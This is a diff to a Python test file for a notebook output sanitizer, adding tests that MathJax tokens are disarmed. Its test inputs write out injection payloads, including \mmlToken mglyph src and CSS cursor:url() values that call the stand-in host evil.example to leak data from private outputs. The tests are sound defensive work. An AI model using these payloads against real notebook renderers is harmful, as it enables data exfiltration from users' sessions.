@@ -656,7 +656,8 @@ def test_private_mathjax_mmltoken_disarmed(mime: str) -> None:
     # spelled with character references, in markdown (the browser decodes them before MathJax reads)
     spelled = sanitize_bundle({"text/markdown": "$\\&#109;mlToken{mglyph}[src=//evil.example]{}$"}, private=True)
     assert "mmlToken{mglyph}" not in spelled.data["text/markdown"].replace("\\mathrm{mmlToken}", "")
-    assert sanitize_bundle({mime: text}).data[mime].count("\\mmlToken") == 2  # public: as written
+    # public too: its style attribute's cursor image waits for a private output's CSS (helper 75)
+    assert "\\mmlToken" not in sanitize_bundle({mime: text}).data[mime]
 
 
 @pytest.mark.parametrize(
@@ -853,3 +854,23 @@ def test_inert_tags_jupyterlab_keeps_are_kept_and_their_urls_still_checked():
         assert tag in kept, (tag, html_of(r))
     assert 'value="3"' in html_of(r) and 'max="10"' in html_of(r) and 'color="red"' in html_of(r)
     assert_no_fetch(html_of(r))
+
+
+@pytest.mark.parametrize("private", [True, False])
+def test_math_split_by_a_wbr_is_disarmed(private: bool) -> None:
+    """MathJax reads a page's math without its ``<wbr>``: ``\\mml<wbr>Token``
+    reached it as ``\\mmlToken`` past clean_tex, which saw two words, and the
+    private output fetched in a Lab (helper 75). ``<wbr>`` is not kept."""
+    html = '<p>$x\\mml<wbr>Token{mglyph}[src="//evil.example/a"]{}$ $\\sty<wbr>le{cursor:url(//evil.example/b)}{y}$</p>'
+    out = sanitize_bundle({"text/html": html}, private=private).data["text/html"]
+    assert "<wbr" not in out and "\\mmlToken" not in out and "\\style" not in out, out
+
+
+@pytest.mark.parametrize("private", [True, False])
+def test_a_mathjax_token_is_disarmed_in_every_session(private: bool) -> None:
+    """``\\mmlToken{mi}[style="cursor:url(...)"]`` in a hidden public block
+    fetched when a private output's CSS showed it (helper 75, in a Lab)."""
+    tex = '$\\mmlToken{mi}[style="cursor:url(//evil.example/bit),auto"]{y}$'
+    for mime in ("text/latex", "text/markdown", "text/html"):
+        out = sanitize_bundle({mime: tex}, private=private)
+        assert "\\mmlToken" not in out.data[mime], out.data[mime]
